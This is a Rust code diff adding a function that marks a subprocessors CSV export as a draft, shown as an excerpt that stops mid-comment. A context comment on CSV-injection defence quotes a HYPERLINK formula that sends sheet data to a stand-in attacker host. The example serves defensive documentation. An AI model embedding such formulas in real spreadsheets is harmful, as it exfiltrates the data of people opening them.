@@ -204,6 +204,24 @@ pub fn subprocessors_csv(
 /// The byte order mark that tells a spreadsheet the file is UTF-8.
 const UTF8_BOM: &str = "\u{feff}";
 
+/// [`subprocessors_csv`]'s `csv` with a first column, `draft`, saying `words` on every row: the
+/// review's copy, which says it is a draft as its other files do. `None` if `csv` is not such a
+/// list.
+pub fn draft_csv(csv: &[u8], words: &str) -> Option<Vec<u8>> {
+    let mut rows = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(csv.strip_prefix(UTF8_BOM.as_bytes())?);
+    let mut w = csv::Writer::from_writer(UTF8_BOM.as_bytes().to_vec());
+    let words = spreadsheet_text(words);
+    for (i, row) in rows.byte_records().enumerate() {
+        let row = row.ok()?;
+        let first: &[u8] = if i == 0 { b"draft" } else { words.as_bytes() };
+        w.write_record(std::iter::once(first).chain(row.iter()))
+            .ok()?;
+    }
+    w.into_inner().ok()
+}
+
 /// A cell as a spreadsheet will show it, never run it (OWASP, "CSV Injection"): a cell that
 /// starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice
 /// and Google Sheets (`=HYPERLINK("https://evil.example/?"&A1,"x")` sends the sheet's data away
